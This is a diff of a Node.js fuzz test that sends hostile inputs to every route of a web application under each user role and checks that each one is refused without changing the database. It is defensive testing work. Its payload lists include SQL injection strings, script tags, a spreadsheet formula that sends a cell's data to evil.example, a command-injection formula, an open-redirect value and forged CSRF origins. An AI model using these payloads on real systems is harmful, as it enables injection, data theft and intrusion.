@@ -50,10 +50,11 @@ import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import http from 'node:http';
 import net from 'node:net';
-import { startServer, run, sql } from './harness.mjs';
+import { writeFileSync, rmSync } from 'node:fs';
+import { startServer, run } from './harness.mjs';
 import { login, api, openSql } from './accounts.mjs';
 
-const CONCURRENCY = 8;
+const CONCURRENCY = +(process.env.JIEBANG_HOSTILE_CONCURRENCY || 8);
 const DEADLINE_MS = 20000;
 const ROLE_LOGINS = { admin: 'admin', unit: 'unit', cadre: 'cadre', evaluator: 'evaluator', leader: 'leader' };
 const T2 = '/t/other';
@@ -84,16 +85,15 @@ const FORMULA = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C
   '\t=1+1', '\r=1+1'];
 const UNICODE = ['\u202e翻转文本', 'zero\u200bwidth\u200d\ufeff', '😀'.repeat(50), 'e\u0301\u0301\u0301\u0301', '\u2028\u2029换行',
   '\ufffd\ufffe\uffff'];
-const ID_VALUES = ['0', '-1', '-0', '9223372036854775807', '9223372036854775808', '-9223372036854775809', '18446744073709551616',
-  '99999999999999999999', '9e9', '987654321.0', '0x3ADE68B1', '+987654321', '0987654321', ' 987654321', '987654321abc',
-  'abc', '1;DROP TABLE app_user', "1' OR '1'='1", '%', '_', '\u0000', '\u0000987654321', '..', '<script>alert("jbx1")</script>',
-  '9'.repeat(4000), '\u202e987654321', '\u0661\u0662\u0663', 'NaN', 'null', '[1]'];
+const ID_VALUES = ['0', '-1', '9223372036854775807', '9223372036854775808', '-9223372036854775809', '99999999999999999999',
+  '987654321.0', '0x3ADE68B1', '+987654321', '0987654321', ' 987654321', '987654321abc', 'abc', '1;DROP TABLE app_user',
+  "1' OR '1'='1", '%', '_', '\u0000987654321', '..', '<script>alert("jbx1")</script>', '9'.repeat(4000), '\u0661\u0662\u0663', '[1]'];
 const INT_VALUES = ['9223372036854775808', '-9223372036854775809', '1e309', '-1e309', '1.5', 'NaN', 'Infinity', '0x10', '12abc', ''];
 
 // A value certain to be refused by the binder for field f, or undefined.
 function badValue(f, json) {
   switch (f.type) {
-    case 'text': return f.max > 0 ? 'x'.repeat(f.max + 1) : undefined;
+    case 'text': return f.max > 0 && f.max < 60000 ? 'x'.repeat(f.max + 1) : undefined;
     case 'int': return json ? 9223372036854775807n : '9223372036854775808';
     case 'decimal': return 'NaN';
     case 'id': return json ? -1 : '-1';
@@ -116,7 +116,7 @@ function payload(f, mode, i, json) {
     case 'like': return isText ? text(LIKE) : undefined;
     case 'formula': return isText ? text(FORMULA) : undefined;
     case 'unicode': return isText ? text(UNICODE) : undefined;
-    case 'long': return isText ? XSS[0] + 'x'.repeat(Math.max(0, (f.max || 100) + 1)) : undefined;
+    case 'long': return isText ? XSS[0] + 'x'.repeat(Math.min(70000, Math.max(0, (f.max || 100) + 1))) : undefined;
     case 'int': return ['int', 'id', 'decimal', 'date'].includes(f.type) ? (json && i % 2 ? Number(text(INT_VALUES)) : text(INT_VALUES)) : undefined;
     case 'negative': return ['int', 'id', 'decimal'].includes(f.type) ? (json ? -9223372036854775808n : '-9223372036854775808') : undefined;
     case 'date': return f.type === 'date' ? text(['2026-02-30', '0000-00-00', '9999-12-32', '2026-13-01', '1999-12-31', '2026-1-1', '２０２６-０１-０１']) : undefined;
@@ -199,12 +199,14 @@ function certainlyBad(f, v) {
 }
 
 const jsonText = (o) => JSON.stringify(o, (k, v) => (typeof v === 'bigint' ? `__big${v}__` : v)).replace(/"__big(-?\d+)__"/g, '$1');
+// Percent-encoding of any string's UTF-8 bytes (a lone surrogate too).
+const pct = (v) => [...Buffer.from(String(v), 'utf8')].map((b) => (/[A-Za-z0-9_.~-]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0').toUpperCase()}`)).join('');
 function formText(obj) {
   const p = [];
   for (const [k, v] of Object.entries(obj)) {
     if (v === undefined || v === null) continue;
-    if (Array.isArray(v)) for (const x of v) p.push(`${encodeURIComponent(k)}=${encodeURIComponent(String(x))}`);
-    else p.push(`${encodeURIComponent(k)}=${encodeURIComponent(typeof v === 'object' ? '[object Object]' : String(v))}`);
+    if (Array.isArray(v)) for (const x of v) p.push(`${pct(k)}=${pct(x)}`);
+    else p.push(`${pct(k)}=${pct(typeof v === 'object' ? '[object Object]' : v)}`);
   }
   return p.join('&');
 }
@@ -319,20 +321,21 @@ function buildCatalogue() {
   M('multipart: many parts', () => ({ body: multipart(Array.from({ length: 300 }, (_, k) => ({ name: `f${k}`, filename: `${k}.txt`, type: 'text/plain', data: 'x' }))) }));
 
   // 5. the route's own fields, every payload in turn (bind table)
-  for (const mode of FIELD_MODES)
-    for (const enc of ['json', 'form']) {
-      add(`fields ${mode} (${enc})`, (rt) => {
-        if (!rt.fields.length) {
-          // no bind table known: generic fields, proven invalid by nothing
-          const obj = { title: XSS[0], name: SQLI[0], body: LIKE[3], text: FORMULA[0], description: UNICODE[0], reason: XSS[1], q: LIKE[0], id: '-1' };
-          return enc === 'json' ? { body: jsonText(obj), ctype: 'application/json' } : { body: formText(obj), ctype: 'application/x-www-form-urlencoded' };
-        }
-        const { obj, bad } = fieldBody(rt, mode, C.length, enc === 'json');
-        const reads = rt.body.includes(enc);
-        return enc === 'json' ? { body: jsonText(obj), ctype: 'application/json', why: bad && reads ? 'bind' : undefined }
-          : { body: formText(obj), ctype: 'application/x-www-form-urlencoded', why: bad && reads ? 'bind' : undefined };
-      });
+  // In the encoding the route reads (JSON where it reads both); a route
+  // that reads neither gets JSON and forms in turn.
+  FIELD_MODES.forEach((mode, m) => add(`fields ${mode}`, (rt) => {
+    const enc = rt.body.includes('json') ? 'json' : rt.body.includes('form') ? 'form' : m % 2 ? 'form' : 'json';
+    if (!rt.fields.length) {
+      // no bind table known: generic fields, proven invalid by nothing
+      const obj = { title: XSS[m % XSS.length], name: SQLI[m % SQLI.length], body: LIKE[m % LIKE.length], text: FORMULA[m % FORMULA.length],
+        description: UNICODE[m % UNICODE.length], reason: XSS[(m + 1) % XSS.length], q: LIKE[0], id: '-1' };
+      return enc === 'json' ? { body: jsonText(obj), ctype: 'application/json' } : { body: formText(obj), ctype: 'application/x-www-form-urlencoded' };
     }
+    const { obj, bad } = fieldBody(rt, mode, m, enc === 'json');
+    const reads = rt.body.includes(enc);
+    return enc === 'json' ? { body: jsonText(obj), ctype: 'application/json', why: bad && reads ? 'bind' : undefined }
+      : { body: formText(obj), ctype: 'application/x-www-form-urlencoded', why: bad && reads ? 'bind' : undefined };
+  }));
 
   // 6. the request line and headers
   add('query: script and SQL', () => ({ query: `q=${encodeURIComponent(XSS[0])}&state=${encodeURIComponent(SQLI[0])}&sort=${encodeURIComponent('id;DROP TABLE x')}&next=${encodeURIComponent('//evil.example/')}` }));
@@ -340,6 +343,10 @@ function buildCatalogue() {
   add('query: repeated', () => ({ query: Array.from({ length: 200 }, () => 'q=x&page=1').join('&') }));
   add('query: invalid UTF-8', (rt) => ({ query: 'q=%FF%FE&page=%C0%AE', why: 'malformed' }));
   add('query: NUL', () => ({ query: 'q=a%00b&page=1%00' }));
+  // more pairs than the connection's memory pool could list (1100 hung the
+  // server until its head timeout, libmicrohttpd 0.9.75, before server.c
+  // stopped it splitting queries)
+  add('query: 1500 pairs', () => ({ query: Array.from({ length: 1500 }, (_, k) => `a${k}=1`).join('&'), why: 'malformed' }));
   add('query: over 4 KiB', () => ({ query: `q=${'x'.repeat(5000)}`, why: 'malformed' }));
   add('query: huge page', () => ({ query: 'page=99999999999999999999&per_page=9223372036854775808&limit=-1&offset=-9223372036854775809&as_of=9999-99-99' }));
   add('path: invalid UTF-8 segment', () => ({ pathSuffix: '/%FF%FE', why: 'malformed' }));
@@ -353,6 +360,24 @@ function buildCatalogue() {
   add('raw: Content-Length and chunked', () => ({ rawSmuggle: true, why: 'malformed' }));
   add('raw: Content-Length twice', () => ({ rawDoubleLength: true, why: 'malformed' }));
   return C;
+}
+
+// A route that reads no body gets a body input's content as its query
+// string instead (its filters are what it reads), except the few inputs
+// that test a body sent where none is read.
+const BODY_WHERE_NONE = new Set(['body: where none is read', 'json: over the cap', 'multipart: truncated', 'form: over the cap']);
+function asQuery(rt, inp, o) {
+  if (!rt.body.includes('none') || o.body === undefined || BODY_WHERE_NONE.has(inp.name)) return o;
+  const bytes = Buffer.isBuffer(o.body) ? o.body : Buffer.from(o.body);
+  let query;
+  if (/urlencoded/.test(o.ctype)) query = bytes.toString('latin1');
+  else if (/json/.test(o.ctype)) {
+    let v;
+    try { v = JSON.parse(bytes.toString('utf8')); } catch { v = undefined; }
+    query = v && typeof v === 'object' && !Array.isArray(v) ? formText(v) : `q=${[...bytes].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')}`;
+  } else query = `q=${[...bytes.subarray(0, 600)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')}`;
+  const { body, ctype, ...rest } = o;
+  return { ...rest, query, why: Buffer.byteLength(query) > 4096 ? 'malformed' : undefined };
 }
 
 // ---- sending ----
@@ -375,7 +400,7 @@ let retries = 0;
 
 function send1(srv, { method, path, headers, body }, expect) {
   return new Promise((resolve) => {
-    const h = expect ? { ...headers, Expect: '100-continue', Connection: 'close' } : headers;
+    const h = { ...headers, ...(body !== undefined ? { 'Content-Length': body.length } : {}), ...(expect ? { Expect: '100-continue', Connection: 'close' } : {}) };
     const req = http.request({ host: '127.0.0.1', port: srv.port, method, path, headers: h, agent: expect ? undefined : agent }, (res) => {
       const chunks = [];
       res.on('data', (d) => chunks.push(d));
@@ -446,8 +471,20 @@ async function storeState(conn, store, names) {
 let srv, conn, routes, catalogue, other, otherIds = {};
 const sess = {};
 
+// The campaign's clock set to noon in Asia/Shanghai today (util/clock.h):
+// the stored lights of claims (domain/claim_light.c) change at midnight,
+// and the sweep must not cross one.
+const clockFile = `/tmp/jiebang-hostile-clock-${process.pid}`;
+const now = Math.floor(Date.now() / 1000);
+writeFileSync(clockFile, String(12 * 3600 - ((now + 8 * 3600) % 86400)));
+
 before(async () => {
-  srv = await startServer({ env: { JIEBANG_LOGINS_PER_ADDR: '1000', JIEBANG_TASK_PERIOD: '0', JIEBANG_BULK_QUEUE: '256', JIEBANG_SLOW_QUEUE: '256' } });
+  // Log-ins: 6 here, but the many refused ones of the sweep must not lock
+  // the address out of the rest. The slow and bulk queues are deepened so
+  // that 8 requests at once never meet a 503 "busy", which is a correct
+  // answer under load but not what is tested here.
+  srv = await startServer({ env: { JIEBANG_LOGINS_PER_ADDR: '1000', JIEBANG_TASK_PERIOD: '0', JIEBANG_BULK_QUEUE: '256',
+    JIEBANG_SLOW_QUEUE: '256', JIEBANG_CLOCK_FILE: clockFile } });
   conn = openSql(srv.store);
   routes = readRoutes();
   if (process.env.HOSTILE_DEV) routes = routes.filter((r) => new RegExp(process.env.HOSTILE_DEV).test(`${r.method} ${r.pattern}`)); // DEVONLY
@@ -479,14 +516,15 @@ before(async () => {
   otherIds.ref = (await conn.query('SELECT ref FROM complaint WHERE tenant_id = 1 LIMIT 1')).trim() || 'X';
   otherIds.tenants = '1';
 });
-after(async () => { conn?.close(); agent.destroy(); await srv?.stop(); });
+after(async () => { conn?.close(); agent.destroy(); rmSync(clockFile, { force: true }); await srv?.stop(); });
 
 const ACTORS = ['anonymous', 'admin', 'unit', 'cadre', 'evaluator', 'leader', 'other-tenant'];
 
 // The request for route rt, input inp, as actor (index k for rotations).
 function assemble(rt, o, actor, k) {
   const s = actor === 'anonymous' ? null : actor === 'other-tenant' ? other : sess[actor];
-  let base = '';
+  // another tenant's admin, at home in its own tenant
+  let base = actor === 'other-tenant' ? T2 : '';
   let why = o.why;
   // path parameters
   let path = rt.pattern;
@@ -536,7 +574,7 @@ function assemble(rt, o, actor, k) {
     if (effective && rt.flags.includes('csrf') && !o.cookie) { csrf = 'other'; refusal = 'csrf'; } else { origin = 'http://evil.example'; refusal = 'csrf'; }
   }
   const token = { valid: s?.csrf, other: sess.cadre.csrf === s?.csrf ? sess.unit.csrf : sess.cadre.csrf, 'same-user': sess.admin2.csrf,
-    forged: 'A'.repeat(43), huge: 'B'.repeat(6000), script: XSS[0].replace(/[^\x20-\x7e]/g, ''), tenant2: other.csrf, none: undefined, 'in-body-twice': undefined }[csrf];
+    forged: 'A'.repeat(43), huge: 'B'.repeat(6000), script: XSS[0].replace(/[^\x20-\x7e]/g, ''), tenant2: s === other ? sess.admin.csrf : other.csrf, none: undefined, 'in-body-twice': undefined }[csrf];
   if (s && token && !o.nocookie) headers['X-CSRF-Token'] = token;
   if (origin) headers.Origin = origin;
   const body = o.body;
@@ -581,13 +619,18 @@ test('every route, every hostile input, every role: a refusal with a message, ne
   assert.ok(catalogue.length >= 100, `only ${catalogue.length} inputs in the catalogue`);
   const names = await tables(conn, srv.store);
   assert.ok(names.length > 40, `only ${names.length} tables`);
+  // The stored lights and the tallies counted from them are brought up to
+  // date by the first read that needs them (domain/claim_light.c): do that
+  // before the snapshot, so that what follows is the sweep's doing alone.
+  for (const [path, who] of [['/api/v1/stats', null], [`${T2}/api/v1/stats`, null], ['/api/v1/region', sess.admin], [`${T2}/api/v1/region`, other]])
+    assert.ok((await api(srv, who, 'GET', path)).status < 500, path);
   const before_ = await storeState(conn, srv.store, names);
 
   const jobs = function* () {
     let k = 0;
     for (const rt of routes)
       for (const inp of catalogue) {
-        const o = inp.fn(rt);
+        const o = asQuery(rt, inp, inp.fn(rt));
         if (o.body !== undefined && !Buffer.isBuffer(o.body)) o.body = Buffer.from(o.body);
         for (const actor of ACTORS) yield { rt, inp, o, actor, k: k++ };
       }
@@ -624,7 +667,7 @@ test('every route, every hostile input, every role: a refusal with a message, ne
   assert.equal(srv.child.exitCode, null, 'the server is still running');
   for (const role of Object.keys(ROLE_LOGINS)) {
     const me = await api(srv, sess[role], 'GET', '/api/v1/me');
-    assert.equal(me.status, 200, `${role}'s session outlived the sweep`);
+    if (me.status !== 200) failures.push(`${role}'s session did not outlive the sweep: ${me.status}`);
   }
   const after_ = await storeState(conn, srv.store, names);
   const changed = [];
@@ -640,7 +683,12 @@ test('every route, every hostile input, every role: a refusal with a message, ne
     ` because nothing else in them was certain to be refused; ${healthChecks} health checks; ${retries} sent again with Expect: 100-continue; ${names.length} tables compared`);
   console.log(`  by status: ${JSON.stringify(tally.status)}`);
   console.log(`  by reason refused: ${JSON.stringify(tally.why)}`);
-  if (failures.length) console.log(failures.slice(0, 200).join('\n'));
+  if (failures.length) {
+    // grouped by route and input, with how many actors met each
+    const groups = new Map();
+    for (const f of failures) { const k = f.replace(/ as \S+ -> .*?: /, ': ').slice(0, 300); groups.set(k, (groups.get(k) || 0) + 1); }
+    console.log([...groups].slice(0, 150).map(([k, n]) => `${n}x ${k}`).join('\n'));
+  }
   assert.deepEqual(changed, [], 'the store changed');
   assert.equal(failures.length, 0, `${failures.length} answers broke the rules, the first:\n${failures.slice(0, 40).join('\n')}`);
   assert.equal(tally.sent, routes.length * catalogue.length * ACTORS.length);
